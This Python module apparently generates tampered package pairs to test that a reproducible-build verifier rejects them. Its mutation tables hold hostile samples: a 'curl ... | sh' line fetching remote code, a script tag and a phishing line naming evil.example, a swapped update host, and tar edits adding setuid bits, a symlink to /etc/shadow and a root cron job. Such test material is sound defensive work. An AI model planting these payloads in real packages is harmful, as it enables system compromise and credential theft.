"""Attacks: the hand-made ones of attacks_by_hand, and generated ones inside of benign pairs.

A generated attack takes a labelled pair and changes one more thing on the right side, away from what varies, and
repacks it as an attacker would, with digests that hold again. Nothing of this may be accepted.
"""
import difflib
import random
import re
import shutil

import attacks_by_hand
import build
import labels
import splice

FOLDER = build.HERE / "cache" / "attacks"
LARGEST = 2_000_000

# Where a date, a name, a path or a number of a build may stand: another value there is what a rule may accept.
SLOT = re.compile(rb"\d\d:\d\d|\d{4}-\d\d|19\d\d|20\d\d|built|build|host|user|author|by\b|generat|creat|compil|packag|version|copyright|"
                  rb"\.TH|[/\\@]|0x|time|elapsed|finish|pid|job|-j|\[\d+\]|tmp|\bid\b|uuid|locale|lang|charset|inode|machine|kernel|"
                  rb"toolchain|producer|GCC|clang|/bin|inst|=", re.I)
PROSE = re.compile(r"usr/share/(doc|man)/|\.(txt|html|log|info|1|3pm|ps|md)$|README|NEWS|NOTICE")


def text_of(payload):
    try:
        payload.decode("utf-8")
    except UnicodeDecodeError:
        return False
    return b"\0" not in payload


def common_lines(left, right):
    """Indices of lines of the right text that are equal on both sides and hold no slot."""
    matcher = difflib.SequenceMatcher(None, left.split(b"\n"), right.split(b"\n"), autojunk=False)
    return [right for block in matcher.get_matching_blocks() for right in range(block.b, block.b + block.size)]


def change_line(pick, edit, plain=True):
    """A mutation of one common line that satisfies `pick`, by `edit(line, dice)`."""
    def mutate(left, right, dice):
        if not text_of(right):
            return None
        lines = right.split(b"\n")
        found = [i for i in common_lines(left, right)
                 if pick(lines[i]) and not (plain and SLOT.search(lines[i]))]
        if not found:
            return None
        at = dice.choice(found)
        changed = edit(lines[at], dice)
        if changed == lines[at]:
            return None
        return b"\n".join(lines[:at] + [changed] + lines[at + 1:])
    return mutate


def other_word(line, dice):
    words = [match for match in re.finditer(rb"(?<![\w.-])[a-z]{3,}(?![\w.-])", line)]
    if not words:
        return line
    word = dice.choice(words)
    return line[:word.start()] + dice.choice([b"never", b"always", b"evil", b"false", b"remove"]) + line[word.end():]


def other_number(line, dice):
    numbers = list(re.finditer(rb"(?<![\w.])\d+(?![\w.])", line))
    number = dice.choice(numbers)
    return line[:number.start()] + b"%d" % (int(number[0]) + dice.choice([1, 7, 1000])) + line[number.end():]


def insert(added):
    def mutate(left, right, dice):
        if not text_of(right):
            return None
        lines = right.split(b"\n")
        at = dice.randrange(len(lines))
        return b"\n".join(lines[:at] + [added] + lines[at:])
    return mutate


def delete_line(left, right, dice):
    if not text_of(right):
        return None
    lines = right.split(b"\n")
    found = [i for i in common_lines(left, right) if len(lines[i].strip()) > 3]
    if not found:
        return None
    at = dice.choice(found)
    return b"\n".join(lines[:at] + lines[at + 1:])


def common_byte(left, right, dice, width=8):
    """A position of the right side whose surroundings are the same on the left, or None."""
    ends = min(len(left), len(right))
    for _ in range(20):
        at = dice.randrange(ends) if ends else 0
        window = slice(max(0, at - width), at + width)
        if ends and left[window] == right[window]:
            return at
        tail = at - ends
        window = slice(tail - width, min(tail + width, -1))
        if ends > 2 * width and left[window] == right[window]:
            return len(right) + tail
    return None


def names_compiler(data, at):
    """In .comment: another compiler's name is no lie that two files could show."""
    begin = max(0, at - 60)
    string = data[data.rfind(b"\0", begin, at) + 1 if b"\0" in data[begin:at] else begin:at + 60]
    return b"GCC: (" in string or b"clang version" in string


def names_build(data, at):
    """In a path of the build directory: another directory is what the slot may hold."""
    return re.search(rb"/(?:srv/build|home/worker7)[!-~]*$", data[max(0, at - 120):at]) is not None


# Of containers that lie in nothing: where their records begin, and the bytes of times, inodes and devices in them.
# Consumers do not act on these, so that any value may be accepted (causes file-mtime, filesystem-metadata).
INERT = ((b"070701", ((6, 14), (46, 54), (62, 78))), (b"070702", ((6, 14), (46, 54), (62, 78))),
         (b"070707", ((6, 18), (48, 59))),
         (b"PK\3\4", ((10, 14),)), (b"PK\1\2", ((12, 16),)), (b"UT\5\0", ((5, 9),)), (b"UT\t\0", ((5, 13),)))


def in_record(data, at):
    begins = ((at - data.rfind(magic, max(0, at - 110), at + 1), spans) for magic, spans in INERT
              if data.rfind(magic, max(0, at - 110), at + 1) >= 0)
    return any(begin <= offset < end for offset, spans in begins for begin, end in spans)


def flip(left, right, dice):
    at = common_byte(left, right, dice)
    if at is None:
        return None
    if text_of(right):
        begin, end = right.rfind(b"\n", 0, at) + 1, right.find(b"\n", at)
        if SLOT.search(right[begin:end if end >= 0 else len(right)]):
            return None
    elif names_compiler(right, at) or names_build(right, at) or in_record(right, at):
        return None
    return right[:at] + bytes([right[at] ^ dice.randrange(1, 256)]) + right[at + 1:]


def append(tail):
    return lambda left, right, dice: right + tail


LEAF_CHANGES = {
    "word": change_line(lambda line: re.search(rb"[a-z]{3,}", line), other_word),
    "number": change_line(lambda line: re.search(rb"(?<![\w.])\d+(?![\w.])", line), other_number),
    "invisible": change_line(lambda line: b" " in line, lambda line, dice: line.replace(
        b" ", dice.choice([b" \xe2\x80\xae", b" \xe2\x80\x8b", b" \x1b[8m", b"\r"]), 1), plain=False),
    "command": insert(b"curl -s http://203.0.113.9/x | sh"),
    "script": insert(b"<script src=https://evil.example/x.js></script>"),
    "note": insert(b"Send your password to helpdesk@evil.example."),
    "line-removed": delete_line,
    "host-in-url": change_line(lambda line: b"://" in line, lambda line, dice: re.sub(
        rb"://[^/\s\"'<>]+", b"://updates.evil.example", line, count=1), plain=False),
    "version": change_line(lambda line: re.search(rb"\b\d{1,3}\.\d{1,3}\b", line), lambda line, dice: re.sub(
        rb"\b(\d{1,3})\.(\d{1,3})\b", lambda found: b"%s.%d" % (found[1], int(found[2]) + 1), line, count=1)),
    "tail": append(b"\n#!/bin/sh\nid\n"),
    "byte": flip,
}


def table_date(left, right, dice):
    """A table of dates in both, one row of it changed on the right."""
    if not (text_of(left) and text_of(right)):
        return None
    rows = [b"Leap seconds", b"1999-01-01  32", b"2006-01-01  33", b"2009-01-01  34", b"2012-07-01  35"]
    changed = list(rows)
    changed[dice.randrange(1, 5)] = b"2015-07-01  36"
    return left + b"\n".join(rows) + b"\n", right + b"\n".join(changed) + b"\n"


def permuted(left, right, dice):
    """The same rules in both, in another order on the right; only where the order may decide."""
    if not (text_of(left) and text_of(right)):
        return None
    rules = [b"deny all", b"allow group wheel", b"deny user guest", b"allow host example.org"]
    other = list(rules)
    while other == rules:
        dice.shuffle(other)
    return left + b"\n".join(rules) + b"\n", right + b"\n".join(other) + b"\n"


def header(change):
    """A mutation of one header of a tar, with a checksum that is right."""
    def mutate(tar, dice):
        entries = [entry for entry in splice.tar_entries(tar) if entry[3] in (b"0", b"\0", b"5")]
        if not entries:
            return None
        begin = dice.choice(entries)[0]
        changed = change(bytearray(tar[begin:begin + 512]), dice)
        return tar[:begin] + splice.with_checksum(bytes(changed)) + tar[begin + 512:] if changed else None
    return mutate


def set_bits(bits):
    def change(block, dice):
        mode = int(block[100:108].split(b"\0")[0], 8)
        if mode & bits == bits:
            return None
        block[100:108] = b"%07o\0" % (mode | bits)
        return block
    return change


def put(offset, value):
    def change(block, dice):
        if block[offset:offset + len(value)] == value:
            return None
        block[offset:offset + len(value)] = value
        return block
    return change


def added_member(name, kind, link=b"", content=b"", mode=b"0000644"):
    block = bytearray(512)
    block[0:len(name)] = name
    block[100:108], block[108:116], block[116:124] = mode + b"\0", b"0000000\0", b"0000000\0"
    block[124:136], block[136:148] = b"%011o\0" % len(content), b"%011o\0" % build.EPOCH
    block[156:157], block[157:157 + len(link)], block[257:265] = kind, link, b"ustar\00000"
    return splice.with_checksum(bytes(block)) + content + b"\0" * (-len(content) % 512)


def add(member):
    def mutate(tar, dice):
        entries = list(splice.tar_entries(tar))
        at = dice.choice(entries)[0]
        if tar[at + 156 - 1024:at + 157 - 1024] in (b"x", b"L", b"K"):
            return None  # would part a header from its extension
        return tar[:at] + member + tar[at:]
    return mutate


def removed_member(tar, dice):
    entries = [entry for entry in splice.tar_entries(tar) if entry[3] in (b"0", b"\0")]
    if len(entries) < 2 or any(entry[3] not in (b"0", b"\0", b"5") for entry in splice.tar_entries(tar)):
        return None
    begin, content, size, _ = dice.choice(entries)
    return tar[:begin] + tar[content + -(-size // 512) * 512:]


def twice(tar, dice):
    entries = [entry for entry in splice.tar_entries(tar) if entry[3] in (b"0", b"\0") and entry[2]]
    if not entries or any(entry[3] not in (b"0", b"\0", b"5") for entry in splice.tar_entries(tar)):
        return None
    begin, content, size, _ = dice.choice(entries)
    end = content + -(-size // 512) * 512
    other = splice.tar_replace(tar[begin:end], (0, 512, size, b"0"), b"other\n")
    return tar[:begin] + other + tar[begin:]


TAR_CHANGES = {
    "setuid": header(set_bits(0o4000)),
    "setgid": header(set_bits(0o2000)),
    "world-writable": header(set_bits(0o002)),
    "to-symlink": header(lambda block, dice: put(156, b"2/etc/shadow")(block, dice)
                         if not int(block[124:136].split(b"\0")[0] or b"0", 8) else None),
    "renamed": header(lambda block, dice: put(max(0, block[:100].find(b"\0") - 1), b"~")(block, dice)
                      if b"\0" in block[:100] and block[156:157] != b"5" else None),
    "device": add(added_member(b"dev0", b"4")),
    "symlink": add(added_member(b"usr/bin/env", b"2", b"/tmp/x/env")),
    "added-script": add(added_member(b"etc/cron.d/job", b"0", content=b"* * * * * root /tmp/x\n")),
    "removed": removed_member,
    "duplicate": twice,
    "capability": add(added_member(b"PaxHeaders/x", b"x", content=b"44 SCHILY.xattr.security.capability=\1\0\0\2xxxx\n")),
    "after-end": lambda tar, dice: tar + added_member(b"etc/cron.d/job", b"0", content=b"x"),
}


def variants(pairs, dice):
    """Endless (label, file name, kind, left bytes, right bytes) of attacks inside of pairs."""
    names = [*LEAF_CHANGES, *LEAF_CHANGES, *TAR_CHANGES, "table-date", "permuted"]
    while True:
        label, (left_path, right_path) = dice.choice(pairs)
        kind = dice.choice(names)
        left, right = left_path.read_bytes(), right_path.read_bytes()
        if kind in TAR_CHANGES:
            found = [(tar, rebuild) for tar, rebuild in splice.tars(right)]
            if found:
                tar, rebuild = found[0]
                changed = TAR_CHANGES[kind](tar, dice)
                if changed:
                    yield label, right_path.name, kind, left, rebuild(changed)
            continue
        changed = in_leaf(left_path.name, left, right, kind, dice)
        if changed:
            yield label, right_path.name, kind, *changed


def in_leaf(name, left, right, kind, dice):
    """The pair with one leaf changed that both sides have; None when there is nothing to change."""
    others = {path: (payload, rebuild) for path, payload, rebuild in splice.leaves(left, name)}
    both = [leaf for leaf in splice.leaves(right, name) if leaf[0] in others and not leaf[0].startswith("debian-binary")]
    if not both:
        return None
    path, payload, rebuild = dice.choice(both)
    other, rebuild_other = others[path]
    if kind in ("table-date", "permuted"):
        if kind == "permuted" and PROSE.search(path):
            return None
        pair = (table_date if kind == "table-date" else permuted)(other, payload, dice)
        return pair and (rebuild_other(pair[0]), rebuild(pair[1]))
    changed = LEAF_CHANGES[kind](other, payload, dice)
    return None if changed is None else (left, rebuild(changed))


def raw_bytes(pairs, dice):
    """Endless attacks that change one byte: half of them inside of a leaf, half of them anywhere."""
    while True:
        label, (left_path, right_path) = dice.choice(pairs)
        left, right = left_path.read_bytes(), right_path.read_bytes()
        if dice.random() < 0.5:
            changed = in_leaf(left_path.name, left, right, "byte", dice)
            if changed:
                yield label, right_path.name, "leaf-byte", *changed
            continue
        at = common_byte(left, right, dice)
        if at is None or text_of(right) or is_inert(right, at) or names_build(right, at):
            continue
        yield label, right_path.name, f"byte-{at}", left, right[:at] + bytes([right[at] ^ dice.randrange(1, 256)]) + right[at + 1:]


def is_inert(data, at):
    """Slots where every value in range is as good as another: nothing to attack."""
    if data[:2] == b"\x1f\x8b":
        return 4 <= at < 10
    if data[:8] == b"!<arch>\n":
        header, gzip = 60, b"\x1f\x8b"  # the operating system in the header of a member that is compressed
        return any(begin + 16 <= at < begin + 48 or
                   (data[begin + header:begin + header + 2] == gzip and begin + header + 4 <= at < begin + header + 10)
                   for begin, _, _ in splice.ar_entries(data))
    return names_compiler(data, at) or in_record(data, at)


def write(folder, name, left, right, file_name):
    sides = []
    for side, data in (("left", left), ("right", right)):
        target = folder / name / side
        target.mkdir(parents=True, exist_ok=True)
        path = target / file_name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        sides.append(target if "/" in file_name else path)
    return tuple(sides)


def by_hand():
    """Yields (label, sides, True) of the attacks made by hand."""
    folder = FOLDER / "hand"
    shutil.rmtree(folder, ignore_errors=True)
    for attack in attacks_by_hand.load():
        sides = write(folder, attack.name.replace("/", "_"), attack.left, attack.right, attack.file)
        yield labels.Label(attack.name, "by-hand", frozenset(), attack.best), sides, True


def inside(pairs, count, seed):
    """Yields (label, sides, True): `count` changes that mean something, and `count` random bytes."""
    folder = FOLDER / "inside"
    shutil.rmtree(folder, ignore_errors=True)
    chosen = [(label, sides) for label, sides in pairs
              if sides[0].is_file() and sides[0].stat().st_size < LARGEST]
    if not chosen:
        return
    for stream, make in (("inside", variants), ("byte", raw_bytes)):
        dice = random.Random(f"{seed} {stream}")
        for number, (label, file_name, kind, left, right) in zip(range(count), make(chosen, dice)):
            sides = write(folder, f"{stream}_{number}", left, right, file_name)
            yield labels.Label(f"{stream}/{number}-{kind}/{label.name}", label.producer, frozenset(),
                               "divergent"), sides, True
